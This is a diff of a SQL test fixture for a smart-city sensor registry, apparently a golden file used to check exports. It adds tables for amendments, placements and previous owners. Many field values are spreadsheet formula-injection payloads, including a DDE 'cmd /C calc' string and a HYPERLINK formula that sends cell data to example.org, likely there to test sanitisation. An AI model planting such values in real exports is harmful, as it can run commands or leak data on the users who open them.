@@ -17,9 +17,32 @@ CREATE TABLE "conventions" (
   PRIMARY KEY ("id")
 );
 INSERT INTO "conventions" VALUES('istres','@SUM(1+1)*cmd|'' /C calc''!A0','signed','2023-12-01','2023-12-01','2030-12-31',NULL,1,'free','public_service_free_to_all',90,60,NULL,NULL);
+CREATE TABLE "conventions_amendments" (
+  "convention_id" TEXT,
+  "n" INTEGER,
+  "number" TEXT,
+  "signed_on" TEXT,
+  "effective_from" TEXT,
+  "annex" TEXT,
+  PRIMARY KEY ("convention_id", "n"),
+  FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id")
+);
+INSERT INTO "conventions_amendments" VALUES('istres',1,'1','2024-06-03','2024-07-01','avenant-1');
+CREATE TABLE "conventions_amendments_deliberations" (
+  "convention_id" TEXT,
+  "amendments_n" INTEGER,
+  "n" INTEGER,
+  "deliberation_id" TEXT,
+  PRIMARY KEY ("convention_id", "amendments_n", "n"),
+  FOREIGN KEY ("convention_id", "amendments_n") REFERENCES "conventions_amendments" ("convention_id", "n"),
+  FOREIGN KEY ("deliberation_id") REFERENCES "deliberations" ("id")
+);
+INSERT INTO "conventions_amendments_deliberations" VALUES('istres',1,1,'cadre');
+INSERT INTO "conventions_amendments_deliberations" VALUES('istres',1,2,'istres');
 CREATE TABLE "conventions_annexes" (
   "convention_id" TEXT,
   "n" INTEGER,
+  "id" TEXT,
   "kind" TEXT,
   "title" TEXT,
   "path" TEXT,
@@ -27,8 +50,9 @@ CREATE TABLE "conventions_annexes" (
   PRIMARY KEY ("convention_id", "n"),
   FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id")
 );
-INSERT INTO "conventions_annexes" VALUES('istres',1,'supports','＝1+1',NULL,NULL);
-INSERT INTO "conventions_annexes" VALUES('istres',2,'data_charter',NULL,'annexes/charte.pdf','0000000000000000000000000000000000000000000000000000000000000000');
+INSERT INTO "conventions_annexes" VALUES('istres',1,NULL,'supports','＝1+1',NULL,NULL);
+INSERT INTO "conventions_annexes" VALUES('istres',2,'avenant-1','amendment','Avenant n° 1',NULL,NULL);
+INSERT INTO "conventions_annexes" VALUES('istres',3,NULL,'data_charter',NULL,'annexes/charte.pdf','0000000000000000000000000000000000000000000000000000000000000000');
 CREATE TABLE "conventions_deliberations" (
   "convention_id" TEXT,
   "n" INTEGER,
@@ -143,6 +167,7 @@ CREATE TABLE "equipment" (
   "network" TEXT,
   "installed_on" TEXT,
   "installed_before" TEXT,
+  "placed_on" TEXT,
   "decommissioned_on" TEXT,
   "removed_on" TEXT,
   "active_until" TEXT,
@@ -189,8 +214,8 @@ CREATE TABLE "equipment" (
   FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id"),
   FOREIGN KEY ("replaces") REFERENCES "equipment" ("id")
 );
-INSERT INTO "equipment" VALUES('istres-noise-0','sensor','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','removed',NULL,NULL,'2023-12-11',NULL,'2024-03-09','2024-03-10',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,'istres',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,-4.5,43.51345);
-INSERT INTO "equipment" VALUES('istres-noise-1','sensor','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','active','istres-ep-1','lorawan','2024-03-11',NULL,NULL,NULL,NULL,'association','a",=1+1,"b;c','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','Sondes Réunies',' =1+1','0012345678901234','70B3D57ED0061234','70B3D57ED0000001','A',NULL,NULL,NULL,NULL,3.5,'battery',0.1,0.01,'istres','istres-noise-0','2024-03-01',24,NULL,1747.3,NULL,NULL,NULL,NULL,'street_light','Istres','13047','Istres',4.98747123456,43.5);
+INSERT INTO "equipment" VALUES('istres-noise-0','sensor','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','removed',NULL,NULL,'2023-12-11',NULL,NULL,'2024-03-09','2024-03-10',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,'istres',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,-4.5,43.51345);
+INSERT INTO "equipment" VALUES('istres-noise-1','sensor','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','active','istres-ep-1','lorawan','2024-03-11',NULL,'2024-05-01',NULL,NULL,NULL,'association','a",=1+1,"b;c','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','Sondes Réunies',' =1+1','0012345678901234','70B3D57ED0061234','70B3D57ED0000001','A',NULL,NULL,NULL,NULL,3.5,'battery',0.1,0.01,'istres','istres-noise-0','2024-03-01',24,NULL,1747.3,NULL,NULL,NULL,NULL,'street_light','Istres','13047','Istres',4.98747123456,43.5);
 CREATE TABLE "equipment_attributes" (
   "equipment_id" TEXT,
   "key" TEXT,
@@ -238,6 +263,31 @@ CREATE TABLE "equipment_mobile_insee_codes" (
 );
 INSERT INTO "equipment_mobile_insee_codes" VALUES('istres-noise-0',1,'13047');
 INSERT INTO "equipment_mobile_insee_codes" VALUES('istres-noise-0',2,'13055');
+CREATE TABLE "equipment_placements" (
+  "equipment_id" TEXT,
+  "n" INTEGER,
+  "support" TEXT,
+  "location_lon" REAL,
+  "location_lat" REAL,
+  "from" TEXT,
+  "until" TEXT,
+  "reason" TEXT,
+  PRIMARY KEY ("equipment_id", "n"),
+  FOREIGN KEY ("equipment_id") REFERENCES "equipment" ("id"),
+  FOREIGN KEY ("support") REFERENCES "supports" ("id")
+);
+INSERT INTO "equipment_placements" VALUES('istres-noise-1',1,NULL,4.9871,43.5135,'2024-03-11','2024-03-31','	=1+1');
+INSERT INTO "equipment_placements" VALUES('istres-noise-1',2,'istres-ep-1',4.98748,43.51345,'2024-04-01','2024-04-30',NULL);
+CREATE TABLE "equipment_previous_owners" (
+  "equipment_id" TEXT,
+  "n" INTEGER,
+  "owner" TEXT,
+  "until" TEXT,
+  PRIMARY KEY ("equipment_id", "n"),
+  FOREIGN KEY ("equipment_id") REFERENCES "equipment" ("id"),
+  FOREIGN KEY ("owner") REFERENCES "parties" ("id")
+);
+INSERT INTO "equipment_previous_owners" VALUES('istres-noise-1',1,'istres','2024-03-31');
 CREATE TABLE "equipment_use_cases" (
   "equipment_id" TEXT,
   "n" INTEGER,
@@ -408,11 +458,11 @@ INSERT INTO "parties_writers_keys" VALUES('istres',1,'SHA256:VpAew07yfl/pnwH6Qja
 CREATE TABLE "smartreg_about" (name TEXT PRIMARY KEY, value TEXT);
 INSERT INTO "smartreg_about" VALUES('version','1');
 INSERT INTO "smartreg_about" VALUES('registry','Golden registry');
-INSERT INTO "smartreg_about" VALUES('commit','650b3b900642e5d4d115742dfbca2581e3e467d6');
+INSERT INTO "smartreg_about" VALUES('commit','0fbbecc8ae11ffdb78324a228648f95afdb539ea');
 INSERT INTO "smartreg_about" VALUES('reference_date','2024-06-01');
 INSERT INTO "smartreg_about" VALUES('rules','<rules>');
 INSERT INTO "smartreg_about" VALUES('audience','internal');
-INSERT INTO "smartreg_about" VALUES('digest','sha256:1906797740d2ea507bb8f38ceaf2ab5040ab46c91ed97050cbd1062883850d37');
+INSERT INTO "smartreg_about" VALUES('digest','sha256:4939a5b46ed73358d69b56d20fb5b08986bdc5fef8af86607f291a4fd856a623');
 CREATE TABLE "supports" (
   "id" TEXT,
   "type" TEXT,
@@ -453,6 +503,16 @@ CREATE TABLE "supports_attributes" (
   FOREIGN KEY ("support_id") REFERENCES "supports" ("id")
 );
 INSERT INTO "supports_attributes" VALUES('istres-ep-1','N° LAMPE','007');
+CREATE TABLE "supports_previous_owners" (
+  "support_id" TEXT,
+  "n" INTEGER,
+  "owner" TEXT,
+  "until" TEXT,
+  PRIMARY KEY ("support_id", "n"),
+  FOREIGN KEY ("support_id") REFERENCES "supports" ("id"),
+  FOREIGN KEY ("owner") REFERENCES "parties" ("id")
+);
+INSERT INTO "supports_previous_owners" VALUES('istres-ep-1',1,'metropole','2023-12-31');
 CREATE TABLE "use_cases" (
   "id" TEXT,
   "title" TEXT,
@@ -503,8 +563,10 @@ CREATE INDEX "idx_conventions_deliberations_deliberation_id" ON "conventions_del
 CREATE INDEX "idx_conventions_scope_supports_support_id" ON "conventions_scope_supports" ("support_id");
 CREATE INDEX "idx_conventions_scope_networks_network_id" ON "conventions_scope_networks" ("network_id");
 CREATE INDEX "idx_conventions_third_parties_party" ON "conventions_third_parties" ("party");
+CREATE INDEX "idx_conventions_amendments_deliberations_deliberation_id" ON "conventions_amendments_deliberations" ("deliberation_id");
 CREATE INDEX "idx_supports_owner_id" ON "supports" ("owner_id");
 CREATE INDEX "idx_supports_manager_id" ON "supports" ("manager_id");
+CREATE INDEX "idx_supports_previous_owners_owner" ON "supports_previous_owners" ("owner");
 CREATE INDEX "idx_equipment_owner_id" ON "equipment" ("owner_id");
 CREATE INDEX "idx_equipment_support_id" ON "equipment" ("support_id");
 CREATE INDEX "idx_equipment_network" ON "equipment" ("network");
@@ -513,6 +575,8 @@ CREATE INDEX "idx_equipment_maintainer_id" ON "equipment" ("maintainer_id");
 CREATE INDEX "idx_equipment_convention_id" ON "equipment" ("convention_id");
 CREATE INDEX "idx_equipment_replaces" ON "equipment" ("replaces");
 CREATE INDEX "idx_equipment_use_cases_use_case_id" ON "equipment_use_cases" ("use_case_id");
+CREATE INDEX "idx_equipment_placements_support" ON "equipment_placements" ("support");
+CREATE INDEX "idx_equipment_previous_owners_owner" ON "equipment_previous_owners" ("owner");
 CREATE INDEX "idx_networks_operator_id" ON "networks" ("operator_id");
 CREATE INDEX "idx_networks_owner_id" ON "networks" ("owner_id");
 CREATE INDEX "idx_networks_convention_id" ON "networks" ("convention_id");
